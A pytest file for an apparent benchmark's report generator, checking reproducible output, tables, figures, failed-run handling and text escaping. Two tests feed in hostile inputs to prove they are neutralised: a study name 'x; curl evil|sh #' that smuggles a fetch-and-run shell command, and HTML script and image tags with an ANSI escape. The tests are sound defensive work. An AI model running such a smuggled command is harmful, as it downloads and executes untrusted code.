"""The report: same store, same bytes; nothing dropped, nothing that breaks a table."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import matplotlib
import numpy as np
import pandas as pd
import pytest
from synthetic import SKILLS, demo, failed, make_result, make_throughput, report_text, save_all, with_id

from polobench.analysis.collection import Arm, Collection, collect
from polobench.analysis.summary import comparisons, throughputs
from polobench.core.errors import UsageError
from polobench.core.result import RunResult
from polobench.report.draw.panels import panels
from polobench.report.draw.style import grid_of_axes, looks, name_figure, name_panel, styled
from polobench.report.findings import Findings
from polobench.report.formatting import NOTHING, listed, number, plain, runs_of, significant
from polobench.report.markdown import escape
from polobench.report.page import verdict_text, write_report
from polobench.report.sections.task_cards import answer, comparison_table

GROUP = ("CartPole-v1", "50,000 samples")


def _text(*results: RunResult, folder: Path) -> str:
    """The report's Markdown without drawing."""
    return report_text(collect(save_all(folder, *results)))


def _rows(text: str) -> list[list[str]]:
    return [re.split(r"(?<!\\)\|", line)[1:-1] for line in text.splitlines() if line.startswith("|")]


def linked_figures(report: Path) -> set[str]:
    """Every figure that a page links to, seen from the folder of figures."""
    found: list[str] = re.findall(
        r"\]\((?:\.\./)?figures/([^)]+)\)", "\n".join(path.read_text() for path in report.rglob("*.md"))
    )
    return set(found)


def _section(text: str, title: str) -> str:
    return text.partition(f"## {title}\n")[2].partition("\n## ")[0]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return demo(tmp_path_factory.mktemp("demo") / "matrix")


@pytest.fixture(scope="module")
def report(store: Path) -> Path:
    before = dict(matplotlib.rcParams)
    path = write_report(store, store.parent / "report")
    assert dict(matplotlib.rcParams) == before, "the style of others is left as it was found"
    return path


def test_same_bytes_again_and_from_another_process(store: Path, report: Path, tmp_path: Path) -> None:
    assert report_text(collect(store)) == report_text(collect(store))
    program = f"from polobench.report.page import write_report; write_report({str(store)!r}, {str(tmp_path / 'c')!r})"
    subprocess.run([sys.executable, "-c", program], check=True, cwd=tmp_path, env={"PYTHONHASHSEED": "7"})
    found = {path.relative_to(report.parent): path.read_bytes() for path in report.parent.rglob("*.md")}
    assert len(found) == 8
    assert found == {path.relative_to(tmp_path / "c"): path.read_bytes() for path in (tmp_path / "c").rglob("*.md")}


def test_no_paths_and_no_clock(store: Path, report: Path) -> None:
    text = "\n".join(path.read_text() for path in report.parent.rglob("*.md"))
    assert str(store.parent) not in text
    assert report.read_text().startswith("# Report on matrix\n")
    assert set(re.findall(r"20\d\d-\d\d-\d\d", text)) == {"2025-01-02"}


def test_figures_are_linked_and_there(report: Path) -> None:
    linked = linked_figures(report.parent)
    figures = report.parent / "figures"
    assert sorted(linked) == sorted(str(path.relative_to(figures)) for path in figures.rglob("*.png"))
    assert {"returns_over_samples_1.png", "CartPole-v1/returns_over_seconds_1.png", "throughput_1.png"} <= set(linked)
    assert all((figures / name).read_bytes().startswith(b"\x89PNG") for name in linked)


def test_tables_as_csv(report: Path) -> None:
    tables = {path.stem: pd.read_csv(path) for path in (report.parent / "tables").iterdir()}
    compared = {"comparison", "against_best", "overall", "use_cases", "time_to_target", "verdicts", "pairs", "claims"}
    assert set(tables) == {"cells", "throughput", "failures", "troubled"} | compared
    assert len(tables["cells"]) == 84
    assert len(tables["comparison"]) == 12
    assert set(tables["failures"]["status"]) == {"diverged"}
    digits = re.findall(r"(?<![\w.-])0\.0*([1-9]\d*)", (report.parent / "tables" / "overall.csv").read_text())
    assert max(map(len, digits)) == 10


def test_failed_runs_lower_the_mean_to_the_floor(tmp_path: Path) -> None:
    runs = [make_result(seed=seed) for seed in range(5)]
    failed(runs[3])
    summary = comparisons(collect(save_all(tmp_path, *runs)))[GROUP][0]
    survivors = [run.final_return for run in runs if run.status == "ok"]
    assert summary.final_return == pytest.approx((sum(survivors) + 22.3) / 5)
    assert summary.final_return < np.mean(survivors) - 50  # what dropping the failed run would have shown
    assert (summary.n, summary.solved, summary.statuses) == (5, 4, {"ok": 4, "diverged": 1})
    assert summary.final_interval.low < 400


def test_median_time_counts_failed_runs_as_never(tmp_path: Path) -> None:
    runs = [make_result(seed=seed) for seed in range(5)]
    for run in runs[:3]:
        run.status = "failed"  # they had reached the target before
    text = _text(*runs, folder=tmp_path)
    cells = [cell.strip() for cell in _rows(_section(text, "50,000 samples"))[2]]
    assert cells.count("never") == 3
    assert "2/5" in cells


def test_wall_seconds_beside_others_stay_out(tmp_path: Path) -> None:
    runs = [make_result(seed=seed) for seed in range(5)]
    runs[2].ran_beside_others = True
    runs[2].ledger = type(runs[2].ledger)(samples=50_000, wall_seconds=3e6, cpu_seconds=4.0)
    found = collect(save_all(tmp_path, *runs, make_throughput(ran_beside_others=True), make_throughput(seed=1)))
    summary = comparisons(found)[GROUP][0]
    assert np.isnan(summary.wall_seconds_to_target)
    assert np.isfinite(summary.cpu_seconds_to_target)
    alone = [50_000 / run.ledger.wall_seconds for run in runs if not run.ran_beside_others]
    assert summary.samples_per_second == pytest.approx(np.mean(alone))
    assert [panel.seconds for panel in panels(found)] == ["cpu_seconds"]
    speeds = throughputs(found)[0]
    assert (speeds.n, speeds.cells, speeds.beside_others) == (1, 2, 1)
    text = report_text(found)
    assert "ran beside others" in text
    assert "3,000,000" not in text


def test_wall_seconds_where_all_ran_alone(tmp_path: Path) -> None:
    found = collect(save_all(tmp_path, *(make_result(seed=seed) for seed in range(5))))
    assert np.isfinite(comparisons(found)[GROUP][0].wall_seconds_to_target)
    assert [panel.seconds for panel in panels(found)] == ["wall_seconds"]


def test_foreign_text_breaks_no_table(tmp_path: Path) -> None:
    label, reason = "<script>|x`\n_y_", "ValueError: a | b\n\n| c | `d` <img src=x> [e](f)\x1b[31m"
    runs = [make_result(seed=seed, label=label) for seed in range(2)]
    failed(runs[0], reason=reason)
    runs += [make_result(seed=3, label=label, status="skipped", reason=reason), make_throughput(label=label)]
    text = _text(*runs, folder=tmp_path)
    assert not re.search(r"<script|<img|\x1b", text)
    assert "&lt;script&gt;&#124;x&#96; &#95;y&#95;" in text
    for table in re.findall(r"(?:^\|.*\n)+", text, flags=re.M):
        assert len({len(cells) for cells in _rows(table)}) == 1
    assert "\x1b" not in verdict_text(Findings(collect(tmp_path)))


def test_strange_labels_can_be_drawn(tmp_path: Path) -> None:
    labels = ["$x_1^{", "_hidden", "<b>|`", "", "x" * 500]
    path = write_report(save_all(tmp_path / "s", *(make_result(label=label) for label in labels)), tmp_path / "r")
    assert (path.parent / "figures" / "returns_over_samples_1.png").exists()


def test_damaged_file_is_named(tmp_path: Path) -> None:
    store = save_all(tmp_path, make_result())
    (store / "broken.json").write_text("{")
    text = report_text(collect(store))
    assert "1 file is damaged and left out: broken.json." in text
    assert "- broken.json: JSONDecodeError" in text
    assert "broken.json" in verdict_text(Findings(collect(store)))


def test_older_code_is_counted(tmp_path: Path) -> None:
    older = make_result(final_return=-7e6)
    older.provenance["code_hash"], older.started_at = "01d", "2024-01-01T00:00:00+00:00"
    text = _text(with_id(older), make_result(), folder=tmp_path)
    assert "1 cell left out: a newer cell differs from it only by code or platform." in text
    assert "7,000,000" not in text


def test_arms_of_mixed_code_are_named(tmp_path: Path) -> None:
    other = make_result(seed=1)
    other.provenance["code_hash"] = "other"
    assert "differ in code: ppo on CartPole-v1" in _text(make_result(), with_id(other), folder=tmp_path)


def test_skipped_cells_are_listed_not_averaged(tmp_path: Path) -> None:
    skipped = [make_result("trpo", seed=seed, status="skipped", reason="no such device") for seed in (0, 1, 2, 5)]
    text = _text(*skipped, make_result(), folder=tmp_path)
    assert [cell.strip() for cell in _rows(_section(text, "Skipped cells"))[2]] == [
        "CartPole-v1", "trpo", "cpu", "50,000 samples", "learning", "0-2, 5", "no such device",
    ]  # fmt: skip
    assert "trpo" not in _section(text, "50,000 samples")


def _answer(folder: Path, *runs: RunResult) -> str:
    found = Findings(collect(save_all(folder, *runs)))
    said = answer(found.comparisons[GROUP], found.contrasts[GROUP])
    return said if isinstance(said, str) else "".join(piece if isinstance(piece, str) else piece.text for piece in said)


def _runs(method: str, returns: list[float]) -> list[RunResult]:
    return [make_result(method, seed=seed, final_return=value) for seed, value in enumerate(returns)]


def test_answer_names_the_best(tmp_path: Path) -> None:
    best, other = _runs("ppo", [480, 490, 500, 500, 495]), _runs("trpo", [100, 120, 110, 130, 90])
    said = "ppo has the highest mean final return, 493.0: ahead of trpo (p ≤ 0.008)."
    assert _answer(tmp_path, *best, *other) == said


def test_the_answer_says_where_the_task_leaves_no_room(tmp_path: Path) -> None:
    text = _answer(tmp_path, *_runs("ppo", [500.0] * 5), *_runs("trpo", [500.0] * 5), *_runs("random", [20.0] * 5))
    said = "ahead of random (p ≤ 0.024); no room between it and trpo"
    assert text == f"ppo has the highest mean final return, 500.0: {said}."


@pytest.mark.parametrize("seeds", [1, 4])
def test_answer_of_few_seeds(tmp_path: Path, seeds: int) -> None:
    text = _answer(tmp_path, *_runs("ppo", [500.0] * seeds), *_runs("trpo", [100.0] * seeds))
    assert text == "Fewer than 5 seeds of a method: nothing can be concluded."


def test_budgets_and_tasks_are_not_ranked_together(tmp_path: Path) -> None:
    runs = [make_result(), make_result(budget=100_000), make_result(task="Acrobot-v1")]
    found = comparisons(collect(save_all(tmp_path, *runs)))
    assert list(found) == [("Acrobot-v1", "50,000 samples"), ("CartPole-v1", "100,000 samples"), GROUP]


def test_devices_are_arms_of_one_table(tmp_path: Path) -> None:
    runs = [make_result(), make_result(device="cuda")]
    table = comparison_table(comparisons(collect(save_all(tmp_path, *runs)))[GROUP])
    assert sorted(row[1] for row in table.rows) == ["cpu", "cuda"]


def test_commands(tmp_path: Path) -> None:
    text = _text(make_result(), folder=tmp_path)
    assert f"polobench run STUDY --store {tmp_path.name}\npolobench report {tmp_path.name}\n" in text
    assert "No study is named in these cells: pytest benchmarks ran them." in text


def test_clock_that_saw_no_time_pass(tmp_path: Path) -> None:
    cell = make_throughput()
    cell.throughput |= {"update_seconds": [0.0] * 10, "update_samples_per_second": None}
    found = collect(save_all(tmp_path, cell))
    assert found.damaged == []
    assert np.isnan(throughputs(found)[0].update_samples_per_second)
    assert "## Throughput" in report_text(found)


def test_timed_rounds_without_new_samples(tmp_path: Path) -> None:
    cell = make_throughput("dpo")
    none = dict.fromkeys(("samples_per_second", "rollout_samples_per_second", "update_samples_per_second"))
    cell.throughput |= none
    found = collect(save_all(tmp_path, cell, make_throughput()))
    row = next(row for row in _rows(_section(report_text(found), "Throughput")) if "dpo" in row[1])
    assert row[2].strip() == NOTHING
    assert row[-1].strip() == "ok 1, no new samples 1"
    assert [item.without_samples for item in throughputs(found)] == [1, 0]


def test_study_where_recorded(tmp_path: Path) -> None:
    run = make_result()
    run.provenance["study"] = "quick"
    assert "polobench run quick --store" in _text(run, folder=tmp_path)


def test_figures_without_data_are_left_out(tmp_path: Path) -> None:
    broken = [failed(make_result(seed=seed), at=0.0, status="failed") for seed in range(2)]
    for run in broken:
        run.curve, run.updates = pd.DataFrame(), pd.DataFrame()
    path = write_report(save_all(tmp_path / "store", *broken), tmp_path / "report")
    assert list((tmp_path / "report" / "figures").iterdir()) == []
    assert "![" not in path.read_text()
    assert "## Curves and cost" not in path.read_text()


def test_empty_store(tmp_path: Path) -> None:
    (tmp_path / "store").mkdir()
    text = write_report(tmp_path / "store", tmp_path / "report").read_text()
    assert "The store holds no cell that ran." in text
    assert "No learning cell has run." in verdict_text(Findings(collect(tmp_path / "store")))


def test_no_store_and_no_place_to_write(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not exist"):
        write_report(tmp_path / "absent", tmp_path / "report")
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match="cannot be written to"):
        write_report(save_all(tmp_path / "store", make_result()), tmp_path / "file" / "report")


def test_progress_is_told(tmp_path: Path) -> None:
    told: list[tuple[str, int, int]] = []
    store = save_all(tmp_path / "store", make_result(), make_result(seed=1))
    write_report(store, tmp_path / "report", lambda what, done, total: told.append((what, done, total)))
    assert told[:2] == [("reading", 1, 2), ("reading", 2, 2)]
    what, done, total = told[-1]
    assert (what, done) == ("drawing", total)


def test_a_label_looks_the_same_everywhere() -> None:
    labels = [f"method {index}" for index in range(24)]
    found = looks(labels)
    assert len({(look.colour, str(look.dashes)) for look in found.values()}) == 24
    assert found == looks(labels)


def test_labels_do_not_depend_on_what_ran(tmp_path: Path) -> None:
    runs = [make_result("trpo", status="skipped", reason="absent"), make_result("ppo")]
    assert collect(save_all(tmp_path, *runs)).labels == ["ppo", "trpo"]


def test_style_is_undone_after_an_error() -> None:
    before = dict(matplotlib.rcParams)
    with pytest.raises(ValueError, match="inside"), styled():
        raise ValueError("inside")
    assert dict(matplotlib.rcParams) == before


def test_numbers_as_text() -> None:
    assert [number(value, 1) for value in (1234.56, -0.01, float("nan"), None)] == ["1,234.6", "0.0", "–", "–"]
    assert number(float("inf")) == "never"
    assert [number(value, 4) for value in (1e-11, -3e-5, 0.0, 1e-4)] == ["1.00e-11", "-3.00e-05", "0.0000", "0.0001"]
    assert (number(1e-11, 2), number(9.87654e30), number(-1e12 + 1)) == ("0.00", "9.88e+30", "-999,999,999,999")
    assert [significant(value) for value in (0.012345, 1234.5, 0.0)] == ["0.0123", "1,234", "0"]
    assert runs_of([3, 1, 2, 7, 7]) == "1-3, 7"
    assert plain("a\tb\x00\n c") == "a b c"
    assert escape("max_kl _a_ | < & \\") == "max_kl &#95;a&#95; &#124; &lt; &amp; &#92;"
    assert escape("1.0 [0.5, 1.5] [a](b) [1](c) [2]: d") == (
        "1.0 [0.5, 1.5] &#91;a&#93;(b) &#91;1&#93;(c) &#91;2&#93;: d"
    )  # an interval is readable in the source too
    assert listed(["dpo", "dpo, 2 responses"]) == 'dpo, "dpo, 2 responses"'


def test_many_cells_are_sorted_in_one_pass(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Arms are looked up, not searched: the work a cell is the same in a store of any size."""
    calls = 0
    original = Arm.of.__func__  # type: ignore[attr-defined]

    def counted(cls: type[Arm], result: RunResult) -> Arm:
        nonlocal calls
        calls += 1
        return original(cls, result)

    monkeypatch.setattr(Arm, "of", classmethod(counted))
    per_cell = []
    for seeds in (2, 8):
        calls = 0
        runs = [make_result(method, seed=seed) for method in SKILLS for seed in range(seeds)]
        found: Collection = collect(save_all(tmp_path / str(seeds), *runs))
        per_cell.append(calls / len(found.cells))
    assert per_cell[0] == per_cell[1]


def test_shell_text_is_never_in_a_command(tmp_path: Path) -> None:
    run = make_result()
    run.provenance["study"] = "x; curl evil|sh #"
    text = _text(run, folder=tmp_path / "a; curl evil")
    assert "polobench run STUDY --store STORE\npolobench report STORE\n" in text
    assert "curl" not in _section(text, "Reproduce")


def test_updates_per_second_are_shown(tmp_path: Path) -> None:
    cell = make_throughput()
    cell.throughput["updates_per_second"] = 12.345
    rows = [[part.strip() for part in row] for row in _rows(_section(_text(cell, folder=tmp_path), "Throughput"))]
    assert dict(zip(rows[0], rows[2]))["updates/s"] == "12.3"


@pytest.mark.parametrize(
    "title", ["article-groups@smollm2 (30 updates, cpu)", "x (1,000,000 samples, cpu)", "no brackets"]
)
def test_the_title_of_a_narrow_figure_is_not_cut(title: str) -> None:
    with styled():
        figure, _ = grid_of_axes(1, 3, (3.7, 2.9))
        name_figure(figure, title)
        figure.draw_without_rendering()
    (drawn,) = (text for text in figure.texts if text.get_text())
    assert drawn.get_text().split() == title.split()
    box = drawn.get_window_extent()
    assert 0 <= box.x0 < box.x1 <= figure.bbox.width


def test_the_title_of_a_narrow_panel_is_not_cut() -> None:
    title = "CartPole-v1 (250,000 samples, 500 updates, cpu)"
    with styled():
        figure, axes = grid_of_axes(3, 3, (4.6, 3.5))
        for ax in axes:
            name_panel(ax, title)
        figure.draw_without_rendering()
    boxes = [ax.title.get_window_extent() for ax in axes]
    assert all(ax.get_title().split() == title.split() for ax in axes)
    assert 0 <= boxes[0].x0 < boxes[0].x1 < boxes[1].x0 < boxes[1].x1 < boxes[2].x0 < boxes[2].x1 <= figure.bbox.width
